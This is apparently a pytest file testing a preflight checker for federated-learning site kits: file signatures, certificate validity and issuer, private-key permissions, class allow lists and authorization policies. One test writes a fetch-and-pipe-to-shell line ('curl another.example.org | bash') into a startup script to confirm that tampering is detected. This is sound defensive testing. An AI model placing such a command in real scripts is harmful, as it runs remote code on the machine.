"""Signatures, certificates, keys and policies of real kits."""

import json
import shutil
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, load_pem_private_key
from cryptography.x509.oid import NameOID

from fedmodal.flare.policy import authorization
from fedmodal.flare.preflight import (
    delivered,
    dry_run,
)
from fedmodal.flare.preflight.finding import Status, open_kit
from tests.flare.preflight import change_policy, found
from tests.kits import local_project, provision


@pytest.mark.parametrize(
    ("folder", "name"),
    [("startup", "sub_start.sh"), ("startup", "rootCA.pem"), ("packages", "requirements.txt")],
)
def test_an_altered_file_is_named(kit: Path, folder: str, name: str) -> None:
    assert {one.status for one in found(delivered.signatures, kit).values()} == {Status.PASS}
    with (kit / folder / name).open("a") as file:
        file.write("\n")
    finding = found(delivered.signatures, kit)[f"{folder} signed"]
    assert finding.status is Status.FAIL
    if name == "rootCA.pem":
        assert "rootCA.pem" in finding.message
    else:
        assert finding.message == f"altered, added or missing: {name}"


def test_a_folder_inside_a_signed_one_is_noticed(kit: Path) -> None:
    (kit / "packages" / "more").mkdir()
    finding = found(delivered.signatures, kit)["packages signed"]
    assert (finding.status, finding.message) == (Status.FAIL, "altered, added or missing: more")


def test_another_authority_in_the_kit_is_noticed(kit: Path, tmp_path: Path) -> None:
    other = provision(local_project(tmp_path), tmp_path) / "site-2" / "startup" / "rootCA.pem"
    shutil.copy(other, kit / "startup")
    for finding in found(delivered.signatures, kit).values():
        assert finding.status is Status.FAIL
        assert "rootCA.pem is not the authority that signed this folder" in finding.message


def test_a_file_added_or_taken_away_is_named(kit: Path) -> None:
    (kit / "startup" / "extra.sh").write_text("true\n")
    (kit / "startup" / "stop_fl.sh").unlink()
    assert "extra.sh, stop_fl.sh" in found(delivered.signatures, kit)["startup signed"].message


def test_a_kit_prepared_for_docker_is_a_warning_but_an_altered_script_is_not(kit: Path) -> None:
    for name in ("start.sh", "stop_fl.sh", "sub_start.sh"):
        (kit / "startup" / name).rename(kit / f"{name}.kept")
    (kit / "startup" / "start_docker.sh").write_text("docker run ...\n")
    finding = found(delivered.signatures, kit)["startup signed"]
    assert (finding.status, "start_docker.sh" in finding.message) == (Status.WARN, True)
    assert found(dry_run.flare, kit)["flare's own"].message.startswith("SKIP: no sub_start.sh")
    altered = (kit / "sub_start.sh.kept").read_text() + "curl another.example.org | bash\n"
    (kit / "startup" / "sub_start.sh").write_text(altered)
    finding = found(delivered.signatures, kit)["startup signed"]
    assert (finding.status, "sub_start.sh" in finding.message) == (Status.FAIL, True)


def test_a_kit_without_signatures_fails(kit: Path) -> None:
    (kit / "startup" / "signature.json").unlink()
    assert found(delivered.signatures, kit)["startup signed"].status is Status.FAIL


def issue(kits: Path, kit: Path, start: timedelta, end: timedelta) -> None:
    """A certificate for the kit's key, signed by the project's authority."""
    state = json.loads((kits.parent / "state" / "cert.json").read_text())
    authority_key = load_pem_private_key(state["root_pri_key"].encode(), None)
    authority = x509.load_pem_x509_certificate(state["root_cert"].encode())
    key = load_pem_private_key((kit / "startup" / "client.key").read_bytes(), None)
    now = datetime.now(UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "site-2")]))
        .issuer_name(authority.subject)
        .public_key(key.public_key())  # type: ignore[arg-type]
        .serial_number(x509.random_serial_number())
        .not_valid_before(now + start)
        .not_valid_after(now + end)
        .sign(authority_key, hashes.SHA256())  # type: ignore[arg-type]
    )
    (kit / "startup" / "client.crt").write_bytes(certificate.public_bytes(Encoding.PEM))


@pytest.mark.parametrize(
    ("start", "end", "status", "message"),
    [
        (-1, 100, Status.PASS, "valid for 99 more days"),
        (-1, 20, Status.WARN, "ends in 19 days"),
        (-20, -1, Status.FAIL, "ended on"),
        (2, 100, Status.FAIL, "not valid before"),
    ],
)
def test_the_days_of_a_certificate(
    kits: Path, kit: Path, start: int, end: int, status: Status, message: str
) -> None:
    issue(kits, kit, timedelta(days=start), timedelta(days=end))
    finding = found(delivered.certificate, kit)["certificate"]
    assert finding.status is status
    assert message in finding.message


def test_the_authority_ends_too(kit: Path) -> None:
    start, now = kit / "startup", datetime.now(UTC)
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "an authority of this test")])
    own = load_pem_private_key((start / "client.key").read_bytes(), None)
    for public, days, file in ((key.public_key(), -1, "rootCA.pem"), (own.public_key(), 100, "client.crt")):
        builder = x509.CertificateBuilder(name, name, public, 1, now - timedelta(9), now + timedelta(days))  # type: ignore[arg-type]
        (start / file).write_bytes(builder.sign(key, hashes.SHA256()).public_bytes(Encoding.PEM))
    findings = found(delivered.certificate, kit)
    assert (findings["certificate"].status, findings["authority"].status) == (Status.PASS, Status.FAIL)
    assert "ended on" in findings["authority"].message


def test_a_certificate_of_another_authority(kit: Path, tmp_path: Path) -> None:
    other = provision(local_project(tmp_path), tmp_path) / "site-2" / "startup"
    shutil.copy(other / "client.crt", kit / "startup")
    assert "of another authority" in found(delivered.certificate, kit)["certificate"].message


def test_a_certificate_of_another_key(kits: Path, kit: Path) -> None:
    shutil.copy(kits / "site-1" / "startup" / "client.key", kit / "startup")
    assert "does not belong to client.key" in found(delivered.certificate, kit)["certificate"].message


def test_a_key_that_others_can_read(kit: Path) -> None:
    assert found(delivered.private_key, kit)["private key"].status is Status.PASS
    (kit / "startup" / "client.key").chmod(0o644)
    finding = found(delivered.private_key, kit)["private key"]
    assert finding.status is Status.FAIL
    assert finding.remedy == f"chmod 600 {kit}/startup/client.key"


def test_a_broader_and_a_narrower_allow_list(kit: Path) -> None:
    def broader(content: dict[str, object]) -> None:
        content["class_allow_list"] = [*content["class_allow_list"], "subprocess."]  # type: ignore[misc]

    def narrower(content: dict[str, object]) -> None:
        content["class_allow_list"] = [
            name
            for name in content["class_allow_list"]
            if "SegmentationLearner" not in name  # type: ignore[attr-defined]
        ]

    assert found(delivered.policies, kit)["allow list"].status is Status.PASS
    change_policy(kit, "resources.json", broader)
    finding = found(delivered.policies, kit)["allow list"]
    assert (finding.status, "subprocess." in finding.message) == (Status.WARN, True)
    change_policy(kit, "resources.json", narrower)
    finding = found(delivered.policies, kit)["allow list"]
    assert (finding.status, "SegmentationLearner" in finding.message) == (Status.FAIL, True)


def test_a_list_that_is_broader_and_narrower_at_once(kit: Path) -> None:
    def other(content: dict[str, object]) -> None:
        content["class_allow_list"] = [*content["class_allow_list"][:-1], "*"]  # type: ignore[index]

    change_policy(kit, "resources.json", other)
    missing, more = [one for one in delivered.policies(open_kit(kit)) if one.check == "allow list"]
    assert (missing.status, missing.message) == (Status.FAIL, "lacks torch.optim.SGD")
    assert (more.status, more.message) == (Status.WARN, "is broader than delivered: *")


def test_no_list_at_all(kit: Path) -> None:
    change_policy(kit, "resources.json", lambda content: content.pop("class_allow_list"))
    finding = found(delivered.policies, kit)["allow list"]
    assert (finding.status, "FLARE's own counts" in finding.message) == (Status.FAIL, True)


def test_a_list_that_is_not_kept_to(kit: Path) -> None:
    change_policy(kit, "resources.json", lambda content: content.update(class_list_enforcement_mode="warn"))
    finding = found(delivered.policies, kit)["allow list"]
    assert (finding.status, "'warn'" in finding.message) == (Status.WARN, True)


@pytest.mark.parametrize(
    ("rights", "status"), [("any", Status.WARN), ("none", Status.PASS), ({"view": "any"}, Status.PASS)]
)
def test_a_role_whose_rights_are_one_word_or_do_not_name_code(
    kit: Path, rights: object, status: Status
) -> None:
    content = authorization()
    content["permissions"]["member"] = rights
    (kit / "local" / "authorization.json").write_text(json.dumps(content))
    assert found(delivered.policies, kit)["authorization"].status is status


def test_a_policy_that_lets_somebody_bring_code(kit: Path) -> None:
    def open_up(content: dict[str, object]) -> None:
        content["permissions"]["lead"]["byoc"] = "any"  # type: ignore[index]

    change_policy(kit, "authorization.json", open_up)
    finding = found(delivered.policies, kit)["authorization"]
    assert (finding.status, finding.message) == (Status.WARN, "lead may run code of their own here")
